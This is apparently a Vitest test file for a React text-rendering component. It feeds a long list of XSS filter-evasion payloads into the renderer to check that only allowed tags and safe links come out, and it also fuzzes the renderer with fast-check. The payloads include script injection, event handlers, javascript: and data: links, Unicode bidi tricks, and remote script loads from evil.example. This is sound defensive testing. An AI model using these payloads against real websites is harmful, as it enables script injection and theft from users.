import { readText } from '@isse/api/formatted-text/read-text'
import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { FormattedBlocks } from './formatted-text.tsx'

const formats = ['plain', 'markdown'] as const

const render = (text: string, format: (typeof formats)[number]) =>
  renderToStaticMarkup(<FormattedBlocks blocks={readText(text, format)} below={1} />)

/** What may come out. React writes `<` and `>` of a text, and of an attribute, as entities: whatever has them is a tag. */
const TAG = /<[^>]*>/g
const ALLOWED =
  /^<(?:\/(?:h2|h3|ul|ol|li|p|strong|a)|ul|ol|strong|h[23] dir="auto"|(?:p|li) dir="auto" class="whitespace-pre-line")>$/
const LINK = /^<a href="([^"<>]*)" class="link wrap-anywhere">$/
const HREF = /^(?:https?:\/\/[^/]|mailto:[^\s]|tel:[+\d]|\/(?!\/))/

function expectAllowed(text: string): void {
  for (const format of formats) {
    const html = render(text, format)
    for (const [tag] of html.matchAll(TAG)) {
      const href = LINK.exec(tag)?.[1]
      if (href === undefined) expect([text, tag]).toEqual([text, expect.stringMatching(ALLOWED)])
      else expect([text, href]).toEqual([text, expect.stringMatching(HREF)])
    }
    expect(html.replace(TAG, '')).not.toMatch(/[<>]/)
  }
}

/** After the OWASP cheat sheet on evading filters, and what has gone wrong in readers of Markdown. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script href="data:,alert(1)"/>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=data:text/html,x">',
  '<style>@import "//evil.example/x.css"</style>',
  '<p style="background:url(javascript:alert(1))">',
  '<form action=//evil.example><button>x',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '</p><script>alert(1)</script><p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](java&#x0A;script:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](https:evil.example)',
  '[x](https://a.example" onmouseover="alert(1))',
  '[x](https://a.example "onmouseover=alert(1)")',
  "[x](https://a.example '\"><script>alert(1)</script>')",
  '[x](https://a.example (title))',
  '[<img src=x onerror=alert(1)>](https://a.example)',
  '[a](https://a.example)](javascript:alert(1))',
  '[[x](https://a.example)](javascript:alert(1))',
  '[x[y](javascript:alert(1))](https://a.example)',
  '![x](javascript:alert(1))',
  '![x](https://a.example/" onerror="alert(1))',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '[x]\n\n[x]: data:text/html,x "title"',
  '<javascript:alert(1)>',
  '<https://a.example/"onmouseover="alert(1)>',
  '<mailto:a@b.example?body=<script>>',
  'https://a.example/"onmouseover="alert(1)',
  "https://a.example/'onmouseover='alert(1)",
  'https://a.example/<script>alert(1)</script>',
  'www.a.example/"><img src=x onerror=alert(1)>',
  'https://user:password@evil.example/',
  'a"onmouseover=alert(1)@b.example',
  '"><script>"@b.example',
  'mailto:a@b.example"onmouseover="alert(1)',
  '0113 496 0000"onmouseover="alert(1)',
  '\u202ehttps://a.example/\u202dmoc.live',
  'https://a.example/\u202egnp.exe',
  '\u2066\u202e<script>\u2069',
  '**<b onclick=alert(1)>**',
  '## <img src=x onerror=alert(1)>',
  '- <svg onload=alert(1)>\n  1. <script>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '| <script> | a |\n|---|---|\n| <img src=x> | b |',
  '\\<script\\>alert(1)\\</script\\>',
  '**a [b** c](javascript:alert(1)) **d**',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
]

test.each(attacks)('%j comes out as a text and as allowed elements alone', (attack) => {
  expectAllowed(attack)
  expectAllowed(`Before ${attack} after\n\n${attack}`)
})

const pieces = fc.oneof(
  fc.constantFrom(...attacks),
  fc.constantFrom(
    ...'# |## |### |- |1. |**|__|*|[|]|](|)|(|<|>|</|"|\'|`|\\|\t|&|;|\n|\n\n'.split('|'),
    ...'https://a.example|www.a.example|ann@b.example|0113 496 0000|javascript:|data:|<a href="|onerror=|\u0000|\u202e|&lt;'.split(
      '|',
    ),
  ),
  fc.string({ unit: 'binary', maxLength: 8 }),
)

test('500 random texts of Markdown and HTML come out as allowed elements alone', () => {
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 40 }), (all) => expectAllowed(all.join(''))),
    { numRuns: 500 },
  )
})

test('plain texts keep their marks, and have links', () => {
  expect(render('**Mondays**\n- 6pm, ann@b.example\n\n# Two', 'plain')).toBe(
    '<p dir="auto" class="whitespace-pre-line">**Mondays**\n- 6pm, <a href="mailto:ann@b.example" class="link wrap-anywhere">ann@b.example</a></p>' +
      '<p dir="auto" class="whitespace-pre-line"># Two</p>',
  )
})

test('headings of a text follow the heading that it stands below', () => {
  const below = (level: 1 | 2 | 3) =>
    renderToStaticMarkup(<FormattedBlocks blocks={readText('## A\n\n### B', 'markdown')} below={level} />)
  expect([below(1), below(2), below(3)]).toEqual([
    '<h2 dir="auto">A</h2><h3 dir="auto">B</h3>',
    '<h3 dir="auto">A</h3><h4 dir="auto">B</h4>',
    '<h4 dir="auto">A</h4><h5 dir="auto">B</h5>',
  ])
})
